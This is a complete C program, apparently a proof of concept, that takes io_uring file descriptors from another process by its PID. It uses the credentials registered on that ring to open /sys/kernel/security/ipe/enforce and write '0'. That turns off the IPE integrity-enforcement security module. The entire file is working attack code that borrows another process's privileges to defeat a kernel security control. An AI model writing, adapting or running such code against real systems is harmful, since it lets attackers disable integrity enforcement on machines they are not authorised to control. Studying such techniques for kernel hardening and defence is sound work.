/*
 * ring.c - let an io_uring of another process open enforce with the credentials that it keeps
 *
 * Usage: ring PID. SPDX-License-Identifier: MIT
 */

#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* As keeper.c has it. */
#define ENTRIES 4

/* The descriptor that the ring has opened, or a negative number. */
static int open_by(int ring, const struct io_uring_params *is)
{
	char *queues =
		mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry =
		mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	unsigned *tail, *head;

	if (queues == MAP_FAILED || entry == MAP_FAILED)
		return -1;
	tail = (unsigned *)(queues + is->sq_off.tail);
	head = (unsigned *)(queues + is->cq_off.head);
	entry->opcode = IORING_OP_OPENAT;
	entry->fd = AT_FDCWD;
	entry->addr = (uintptr_t) "/sys/kernel/security/ipe/enforce";
	entry->open_flags = O_WRONLY;
	entry->personality = 1;
	((unsigned *)(queues + is->sq_off.array))[*tail % ENTRIES] = 0;
	__atomic_add_fetch(tail, 1, __ATOMIC_SEQ_CST);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -1;
	return ((struct io_uring_cqe *)(queues + is->cq_off.cqes))[*head % (2 * ENTRIES)].res;
}

int main(int argc, char **argv)
{
	/* The layout is the same in every ring of that size. */
	struct io_uring_params is = {0};
	int pidfd, number, fd;

	if (argc < 2 || syscall(SYS_io_uring_setup, ENTRIES, &is) < 0)
		return 2;
	pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[1]), 0);
	for (number = 0; number < 64; number++) {
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
		if (fd < 0)
			continue;
		fd = open_by(fd, &is);
		printf("through %d: %d\n", number, fd);
		if (fd >= 0 && write(fd, "0", 1) == 1)
			return 0;
	}
	return 1;
}
